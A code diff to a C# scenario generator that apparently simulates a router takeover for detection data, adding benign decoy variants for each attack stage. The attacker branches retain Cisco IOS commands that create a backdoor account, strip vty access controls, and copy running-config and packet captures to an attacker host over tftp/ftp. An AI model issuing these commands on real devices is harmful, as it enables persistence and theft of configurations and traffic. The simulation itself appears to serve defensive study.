@@ -83,11 +83,16 @@ internal sealed class Takeover(Scene scene, TruthRecorder truth, ConfigurationAr
                 Craft.WebAddress,
                 "POST",
                 Craft.ExploitPath,
-                200,
+                IsBenign("S2.exploit") ? 404 : 200,
                 412 + i,
                 agent,
                 Mark(StageIds.Entry, "T01")
             );
+        }
+
+        if (IsBenign("S2.exploit"))
+        {
+            return;
         }
 
         Wire.Alert(
@@ -172,7 +177,7 @@ internal sealed class Takeover(Scene scene, TruthRecorder truth, ConfigurationAr
             time,
             Typing(StageIds.Entry, proves) with
             {
-                LocalPort = IsExploited ? 21111 : 22,
+                LocalPort = IsExploited && !IsBenign("S2.exploit") ? 21111 : 22,
             }
         )
             .Wait(60)
@@ -194,22 +199,34 @@ internal sealed class Takeover(Scene scene, TruthRecorder truth, ConfigurationAr
             time,
             Typing(StageIds.Foothold) with
             {
-                LocalPort = exploited ? 21111 : 22,
+                LocalPort = exploited && !IsBenign("S2.exploit") ? 21111 : 22,
             }
         );
         string[] account = exploited ? ["T30", "S2"] : ["T30"];
         string[] access = exploited ? ["T38", "S2"] : ["T38"];
-        session.Configure(account, Account());
-        ShapedLine saved = SnapshotShapes.Username.With(Craft.LocalAccount, Secret);
-        Archive.Add(session.Now, Cast.Edge, [saved], Mark(StageIds.Foothold, "T30"));
-        session.Begin().Statement("line vty 0 4", "~T38").Statement($"no access-class {Craft.AccessClass} in", access);
+        if (IsBenign("S2.account"))
+        {
+            session.Configure([], $"interface {Craft.CaptureInterface}", "description uplink");
+        }
+        else
+        {
+            session.Configure(account, Account());
+            ShapedLine saved = SnapshotShapes.Username.With(Craft.LocalAccount, Secret);
+            Archive.Add(session.Now, Cast.Edge, [saved], Mark(StageIds.Foothold, "T30"));
+        }
+
+        session.Begin().Statement("line vty 0 4", "~T38");
+        session.Statement(
+            IsBenign("S2.access") ? "exec-timeout 15 0" : $"no access-class {Craft.AccessClass} in",
+            access
+        );
         DateTime opened = session.Now;
         Session second = new(
             Scene,
             Cast.Edge,
-            Craft.LocalAccount,
-            Craft.ShellAddress,
-            opened.AddSeconds(15),
+            IsBenign("S2.login") ? Carrier.People.Engineers[2] : Craft.LocalAccount,
+            IsBenign("S2.login") ? Jump : Craft.ShellAddress,
+            IsBenign("S2.login") ? opened.AddHours(-3) : opened.AddSeconds(15),
             Typing(StageIds.Foothold, exploited ? ["S2"] : [])
         );
         session.Wait(Carrier.Seed == 0 ? 42 : 20 + Scene.Random.Below(25));
@@ -237,20 +254,19 @@ internal sealed class Takeover(Scene scene, TruthRecorder truth, ConfigurationAr
             Scene,
             Cast.Edge,
             EdgeAccountIn(StageIds.Theft),
-            Craft.ShellAddress,
+            IsBenign("S1.login") ? Jump : Craft.ShellAddress,
             start,
             Typing(StageIds.Theft, "S1")
         );
         previous?.Close();
-        foreach (string command in commands)
+        foreach (string command in IsBenign("S1.recon") ? ["show clock", "show version"] : commands)
         {
             reading.Command(command, command == "show running-config" ? [.. recon, "~T23"] : recon);
         }
 
         bool tftp = Carrier.Seed == 0 || Carrier.Seed % 3 != 1;
-        string target = tftp
-            ? $"tftp://{Craft.WebAddress}/{Craft.ConfigurationFile}"
-            : $"ftp://{Craft.WebAddress}/{Craft.ConfigurationFile}";
+        string host = IsBenign("S1.copy") ? Carrier.Servers.Backup.Address : Craft.WebAddress;
+        string target = tftp ? $"tftp://{host}/{Craft.ConfigurationFile}" : $"ftp://{host}/{Craft.ConfigurationFile}";
         string copy = Habit(
             "copy",
             $"copy running-config {target}",
@@ -260,7 +276,7 @@ internal sealed class Takeover(Scene scene, TruthRecorder truth, ConfigurationAr
             $"show running-config | redirect {target}"
         );
         reading.Command(copy, "T23", "T74", "S1");
-        Conversation talk = new(Cast.Edge.Address, Craft.WebAddress, tftp ? 69 : 21, tftp ? "udp" : "tcp")
+        Conversation talk = new(Cast.Edge.Address, host, tftp ? 69 : 21, tftp ? "udp" : "tcp")
         {
             Service = tftp ? "-" : "ftp",
             Seconds = 9,
@@ -305,12 +321,19 @@ internal sealed class Takeover(Scene scene, TruthRecorder truth, ConfigurationAr
         string name = Craft.CaptureName;
         string[] proves = ["T60", "S3"];
         session.Command($"monitor capture {name} interface {Craft.CaptureInterface} both", "~T60", "S3");
-        session.Command($"monitor capture {name} {CaptureFilter()}", proves);
+        string filter = IsBenign("S3.capture") ? "match ipv4 protocol 89 any any" : CaptureFilter();
+        session.Command($"monitor capture {name} {filter}", proves);
         session.Command($"monitor capture {name} start", "~T60", "S3");
         session.Log(IosShapes.Capture.With("ENABLE", name, "enabled"), "~T60", "S3");
         session.Wait(2400);
         session.Command($"monitor capture {name} stop", "~T60", "S3");
         session.Log(IosShapes.Capture.With("DISABLE", name, "disabled"), "~T60", "S3");
+        if (IsBenign("S3.export"))
+        {
+            session.Command($"show monitor capture {name} buffer brief").Close();
+            return;
+        }
+
         string file = Habit("store", "bootflash:", "flash:", "harddisk:", "bootflash:tracelogs/") + Craft.CaptureFile;
         session.Command($"monitor capture {name} export {file}", "~T60", "S3");
         session.Command($"copy {file} ftp://{Craft.WebAddress}/", "T74", "S3");
